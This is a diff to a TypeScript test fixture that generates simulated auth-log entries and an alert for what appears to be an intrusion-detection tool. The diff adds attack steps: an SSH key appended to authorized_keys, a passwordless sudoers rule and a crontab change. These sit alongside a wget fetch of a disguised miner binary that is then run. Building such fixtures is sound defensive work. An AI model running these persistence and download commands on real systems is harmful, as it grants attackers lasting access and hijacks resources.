@@ -9,6 +9,7 @@ export const thief = '203.0.113.89';
 export const guesser = '203.0.113.200';
 export const pool = '203.0.113.50';
 export const key = 'SHA256:uNiVztksCsDhcc0u9e8BrVvTXoxfrCTSTOVfSSvH0mA';
+export const addedKey = 'AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f';
 const tenancy = 'ocid1.tenancy.oc1..exampletenancy';
 const own = '10.0.0.5';
 
@@ -33,13 +34,18 @@ export const signIns: readonly string[] = [
     ),
   ),
   signedIn('Feb 10 13:15:02', 1000, thief),
+  ranAsRoot(
+    'Feb 10 13:16:10',
+    `/usr/bin/bash -c echo ssh-ed25519 ${addedKey} devops_temp_key >> /home/devops/.ssh/authorized_keys`,
+  ),
   ranAsRoot('Feb 10 13:17:20', '/usr/bin/wget -q https://files.example.net/raw/xyz -O /tmp/.systemd/systemd-update'),
   said(
     'Feb 10 13:18:01',
     'useradd[1012]',
     'new user: name=ubuntu-update, UID=1001, GID=1001, home=/home/u, shell=/bin/bash',
   ),
-  said('Feb 10 13:25:00', 'usermod[1013]', "add 'ubuntu-update' to group 'sudo'"),
+  ranAsRoot('Feb 10 13:25:00', '/usr/bin/bash -c echo ubuntu-update ALL=(ALL) NOPASSWD:ALL > /etc/sudoers.d/90-u'),
+  said('Feb 10 13:26:00', 'crontab[1015]', '(root) REPLACE (root)'),
   ranAsRoot('Feb 10 13:30:00', `/tmp/.systemd/systemd-update -o stratum+tcp://${pool}:3333 --donate-level 1`),
 ];
 
@@ -181,6 +187,8 @@ export const alertDetails = {
   connections: `${pool}:3333, ${thief}:8080, 203.0.113.51:4444`,
   sshLogin: `2024-02-10T13:15:00Z SSH login from ${thief}`,
   userCreated: 'New user created: ubuntu-update',
+  keyAdded: 'Unauthorized SSH key added: devops_temp_key',
+  sudo: 'Sudoers file modified',
 };
 export const alert = (details: Readonly<Record<string, string>> = alertDetails): string =>
   JSON.stringify({
